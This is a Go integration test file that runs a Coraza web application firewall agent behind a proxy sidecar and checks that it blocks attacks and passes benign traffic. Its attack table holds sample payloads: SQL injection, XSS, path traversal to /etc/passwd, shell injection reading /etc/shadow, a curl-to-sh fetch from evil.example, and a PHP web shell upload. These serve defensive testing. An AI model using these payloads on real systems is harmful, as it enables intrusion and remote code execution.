package corazawaf_test

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/zentinelproxy/sidecar/examples/corazawaf"
	"github.com/zentinelproxy/sidecar/internal/config"
	"github.com/zentinelproxy/sidecar/internal/supervisor"
	"github.com/zentinelproxy/sidecar/internal/testutil"
	"github.com/zentinelproxy/sidecar/sdk"
)

// stack is a running sidecar (the supervisor the binary runs, on real
// sockets) with the Coraza agent on a Unix socket and an upstream that
// counts what reaches it.
type stack struct {
	url string
	// slow holds requests for /slow in the upstream until closed.
	slow     chan struct{}
	slowHits chan struct{}
	agent    *corazawaf.Handler
	upHits   atomic.Int64
	logs     *testutil.LogBuffer
	client   *http.Client
	stopOnce sync.Once
	stop     func()
}

const sidecarYAML = `
listeners:
  - name: public
    address: 127.0.0.1:0
upstreams:
  - name: app
    address: %s
agents:
  - name: waf
    transport: uds
    address: %s
    failure_mode: closed
    timeouts: {message: 30s, request: 30s} # generous: the race detector slows the rules tenfold
    request_body: {mode: buffered, limit: 1MiB, over_limit: reject}
routes:
  - name: default
    upstream: app
    agents: [waf]
logging:
  level: warn
`

// startStack runs cfg's agent behind a real sidecar.
func startStack(t *testing.T, cfg corazawaf.Config) *stack {
	t.Helper()
	return startStackWith(t, cfg, &sdk.Options{Name: "corazawaf"})
}

// startStackWith is startStack with the agent served with opts.
func startStackWith(t *testing.T, cfg corazawaf.Config, opts *sdk.Options) *stack {
	t.Helper()
	st := &stack{logs: &testutil.LogBuffer{}, slow: make(chan struct{}), slowHits: make(chan struct{}, 16)}
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		st.upHits.Add(1)
		if r.URL.Path == "/slow" {
			st.slowHits <- struct{}{}
			select {
			case <-st.slow:
			case <-r.Context().Done():
			}
		}
		_, _ = io.Copy(io.Discard, r.Body)
		w.Header().Set("content-type", "application/json")
		_, _ = io.WriteString(w, `{"ok":true}`)
	}))
	t.Cleanup(func() { close(st.slow); up.Close() })

	log := zerolog.New(st.logs)
	h, err := corazawaf.New(cfg, &log)
	if err != nil {
		t.Fatal(err)
	}
	st.agent = h
	sock := filepath.Join(testutil.SocketDir(t), "waf.sock")
	aln, err := sdk.ListenUDS(sock, nil)
	if err != nil {
		t.Fatal(err)
	}
	actx, astop := context.WithCancel(context.Background())
	adone := make(chan struct{})
	go func() {
		defer close(adone)
		_ = sdk.Serve(actx, aln, h, opts)
	}()

	c, err := config.Parse(fmt.Appendf(nil, sidecarYAML, up.Listener.Addr(), sock))
	if err != nil {
		t.Fatal(err)
	}
	c.Admin.Enabled = new(false)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	so := supervisor.DefaultOptions()
	so.Listener, so.AgentWait, so.Drain = ln, testutil.LongWait, 5*time.Second
	so.Log = zerolog.New(st.logs).Level(zerolog.WarnLevel)
	s, err := supervisor.Start(context.Background(), c, so)
	if err != nil {
		astop()
		t.Fatal(err)
	}
	st.url = "http://" + ln.Addr().String()
	st.client = &http.Client{Timeout: testutil.LongWait}
	st.stop = func() {
		st.stopOnce.Do(func() {
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			_ = s.Shutdown(ctx)
			astop()
			<-adone
			_ = h.Close()
		})
	}
	t.Cleanup(st.stop)
	return st
}

// result is what a client saw.
type result struct {
	status int
	ruleID string
	body   string
}

func (st *stack) do(t *testing.T, req *http.Request) result {
	t.Helper()
	return doRequest(t, st.client, req)
}

// doRequest sends req with client and returns what the client saw.
func doRequest(t *testing.T, client *http.Client, req *http.Request) result {
	t.Helper()
	resp, err := client.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return result{status: resp.StatusCode, ruleID: resp.Header.Get("x-waf-rule-id"), body: string(b)}
}

// tcase builds one request against the stack's base URL.
type tcase struct {
	name string
	req  func(base string) *http.Request
	// rule is the id the client must be shown for an attack ("" for any).
	rule string
	// status is the block's status when not 403 (the rule's own).
	status int
}

// testHost is the Host the requests carry: CRS flags a numeric one (920350).
const testHost = "shop.example"

func get(path string, hdr ...string) func(string) *http.Request {
	return func(base string) *http.Request {
		r, err := http.NewRequest(http.MethodGet, base+path, nil)
		if err != nil {
			panic(err)
		}
		r.Host = testHost
		r.Header.Set("Accept", "*/*")
		r.Header.Set("User-Agent", "curl/8.5.0")
		for i := 0; i+1 < len(hdr); i += 2 {
			r.Header.Set(hdr[i], hdr[i+1])
		}
		return r
	}
}

func post(path, ctype, body string) func(string) *http.Request {
	return func(base string) *http.Request {
		r, err := http.NewRequest(http.MethodPost, base+path, strings.NewReader(body))
		if err != nil {
			panic(err)
		}
		r.Host = testHost
		r.Header.Set("Accept", "*/*")
		r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
		r.Header.Set("Content-Type", ctype)
		return r
	}
}

func multipartBody(fields map[string]string, file, filename, content string) (string, string) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	for k, v := range fields {
		_ = w.WriteField(k, v)
	}
	if file != "" {
		fw, _ := w.CreateFormFile(file, filename)
		_, _ = io.WriteString(fw, content)
	}
	_ = w.Close()
	return w.FormDataContentType(), b.String()
}

var attacks = []tcase{
	{name: "sqli query", req: get("/products?id=1%27%20OR%20%271%27%3D%271"), rule: "942100"},
	{name: "sqli union", req: get("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--")},
	{name: "sqli form body", req: post("/login", "application/x-www-form-urlencoded", "user=admin'--&pass=x' or 1=1--")},
	{name: "sqli json body", req: post("/api/items", "application/json", `{"filter":"1' UNION SELECT password FROM users--"}`)},
	{name: "xss query", req: get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")},
	{name: "xss form body", req: post("/comment", "application/x-www-form-urlencoded", "text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")},
	{name: "path traversal", req: get("/download?file=../../../../etc/passwd")},
	{name: "shell injection", req: get("/ping?host=127.0.0.1%3Bcat%20/etc/shadow")},
	{name: "shell injection body", req: post("/run", "application/x-www-form-urlencoded", "cmd=%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%7Csh)")},
	{name: "scanner user-agent", req: get("/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), rule: "913100"},
	{name: "protocol violation NUL", req: get("/item?id=1%00")},
	{name: "protocol violation GET with body", req: func(base string) *http.Request {
		r := post("/item", "application/x-www-form-urlencoded", "a=1")(base)
		r.Method = http.MethodGet
		return r
	}},
	{name: "protocol violation bad multipart", req: post("/upload", "multipart/form-data; boundary=XyZ",
		"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--XyZ"), rule: "200002", status: http.StatusBadRequest},
	{name: "multipart php upload", req: func(base string) *http.Request {
		ct, body := multipartBody(nil, "upload", "shell.php", "<?php system($_GET['c']); ?>")
		return post("/upload", ct, body)(base)
	}},
}

var benign = []tcase{
	{name: "plain get", req: get("/")},
	{name: "get with query", req: get("/search?q=blue+running+shoes&page=2&sort=price_asc")},
	{name: "get static", req: get("/static/app.3f9a1c.js", "Accept", "application/javascript")},
	{name: "json api post", req: post("/api/orders", "application/json",
		`{"customer":{"name":"Ada Lovelace","email":"ada@example.com"},"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"note":"Leave at the door, please."}`)},
	{name: "json api put", req: func(base string) *http.Request {
		r := post("/api/users/42", "application/json", `{"display_name":"Grace","locale":"en-GB","newsletter":false}`)(base)
		r.Method = http.MethodPut
		return r
	}},
	{name: "form post", req: post("/signup", "application/x-www-form-urlencoded",
		"name=Alan+Turing&email=alan%40example.org&country=UK&agree=on")},
	{name: "multipart upload", req: func(base string) *http.Request {
		// 200 KiB: several body chunks.
		ct, body := multipartBody(map[string]string{"title": "Holiday photos", "album": "2024"},
			"photo", "beach.jpg", strings.Repeat("\xff\xd8\xff\xe0JFIF binary-ish data ", 8000))
		return post("/upload", ct, body)(base)
	}},
	{name: "multipart text file", req: func(base string) *http.Request {
		ct, body := multipartBody(map[string]string{"description": "quarterly report"},
			"file", "report.csv", "region,revenue\nnorth,1200\nsouth,900\n")
		return post("/upload", ct, body)(base)
	}},
	{name: "large json body", req: post("/api/bulk", "application/json",
		`{"rows":[`+strings.Repeat(`{"id":1,"name":"widget","price":9.99},`, 50)+`{"id":2}]}`)},
}

func TestAttacksBlockedThroughSidecar(t *testing.T) {
	st := startStack(t, corazawaf.DefaultConfig())
	for _, tc := range attacks {
		t.Run(tc.name, func(t *testing.T) {
			before := st.upHits.Load()
			r := st.do(t, tc.req(st.url))
			want := cmp.Or(tc.status, http.StatusForbidden)
			if r.status != want {
				t.Fatalf("status %d, want %d; body %q", r.status, want, r.body)
			}
			if r.ruleID == "" || (tc.rule != "" && r.ruleID != tc.rule) {
				t.Errorf("x-waf-rule-id %q, want %q", r.ruleID, tc.rule)
			}
			var body struct {
				Error  string `json:"error"`
				RuleID int    `json:"rule_id"`
			}
			if err := json.Unmarshal([]byte(r.body), &body); err != nil || fmt.Sprint(body.RuleID) != r.ruleID {
				t.Errorf("body %q: want JSON naming rule %s (%v)", r.body, r.ruleID, err)
			}
			if n := st.upHits.Load() - before; n != 0 {
				t.Errorf("the upstream saw %d blocked request(s)", n)
			}
		})
	}
	st.stop()
	s := st.agent.Stats()
	if s.Blocked < uint64(len(attacks)) || s.Open != 0 {
		t.Errorf("stats %+v: want %d blocked, 0 open", s, len(attacks))
	}
	if !strings.Contains(st.logs.String(), `"message":"waf match"`) {
		t.Errorf("no waf match in the agent's log:\n%s", st.logs)
	}
}

func TestBenignPassThroughSidecar(t *testing.T) {
	st := startStack(t, corazawaf.DefaultConfig())
	for _, tc := range benign {
		t.Run(tc.name, func(t *testing.T) {
			before := st.upHits.Load()
			r := st.do(t, tc.req(st.url))
			if r.status != http.StatusOK || r.body != `{"ok":true}` {
				t.Fatalf("status %d (rule %q), body %q: want the upstream's 200", r.status, r.ruleID, r.body)
			}
			if n := st.upHits.Load() - before; n != 1 {
				t.Errorf("the upstream saw %d requests, want 1", n)
			}
		})
	}
	st.stop()
	if s := st.agent.Stats(); s.Blocked != 0 || s.Detected != 0 || s.Open != 0 {
		t.Errorf("stats %+v: want nothing flagged and nothing open", s)
	}
}

func TestDetectionOnlyPassesAndReports(t *testing.T) {
	cfg := corazawaf.DefaultConfig()
	cfg.Mode = corazawaf.ModeDetectionOnly
	st := startStack(t, cfg)
	for _, tc := range attacks {
		t.Run(tc.name, func(t *testing.T) {
			before := st.upHits.Load()
			r := st.do(t, tc.req(st.url))
			if r.status != http.StatusOK || r.ruleID != "" {
				t.Fatalf("status %d, rule %q: want the upstream's 200", r.status, r.ruleID)
			}
			if n := st.upHits.Load() - before; n != 1 {
				t.Errorf("the upstream saw %d requests, want 1", n)
			}
		})
	}
	st.stop()
	s := st.agent.Stats()
	if s.Blocked != 0 || s.Detected < uint64(len(attacks)) {
		t.Errorf("stats %+v: want 0 blocked, %d detected", s, len(attacks))
	}
	if !strings.Contains(st.logs.String(), `"action":"detected"`) {
		t.Errorf("no detection in the agent's log:\n%s", st.logs)
	}
}

func TestExclusionRemovesRule(t *testing.T) {
	// The scanner user-agent trips 913100 alone (one critical match
	// scores 5, the threshold): removing it lets the request through.
	scanner := get("/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
	cfg := corazawaf.DefaultConfig()
	rr, err := corazawaf.ParseExclusions(strings.NewReader("# scanners are fine here\n913100\n"))
	if err != nil {
		t.Fatal(err)
	}
	cfg.Exclusions = rr
	st := startStack(t, cfg)
	if r := st.do(t, scanner(st.url)); r.status != http.StatusOK {
		t.Fatalf("with 913100 removed: status %d rule %q, want 200", r.status, r.ruleID)
	}
	// Other rules still apply.
	if r := st.do(t, get("/products?id=1%27%20OR%20%271%27%3D%271")(st.url)); r.status != http.StatusForbidden {
		t.Fatalf("sqli with 913100 removed: status %d, want 403", r.status)
	}
}

// TestClientGoneClosesTransaction: a client that goes away while the
// upstream works makes the sidecar cancel the request at the agent, which
// closes the transaction it held for the response at once (not after
// PendingTTL).
func TestClientGoneClosesTransaction(t *testing.T) {
	st := startStack(t, corazawaf.DefaultConfig())
	ctx, cancel := context.WithCancel(context.Background())
	req := get("/slow")(st.url).WithContext(ctx)
	errc := make(chan error, 1)
	go func() {
		resp, err := st.client.Do(req)
		if err == nil {
			resp.Body.Close()
		}
		errc <- err
	}()
	select {
	case <-st.slowHits:
	case <-time.After(testutil.LongWait):
		t.Fatal("the request did not reach the upstream")
	}
	if st.agent.Pending() != 1 {
		t.Fatalf("pending %d while the upstream works, want 1", st.agent.Pending())
	}
	cancel()
	<-errc
	testutil.WaitFor(t, "the transaction to close", func() bool {
		s := st.agent.Stats()
		return s.Open == 0 && s.Canceled == 1
	})
}
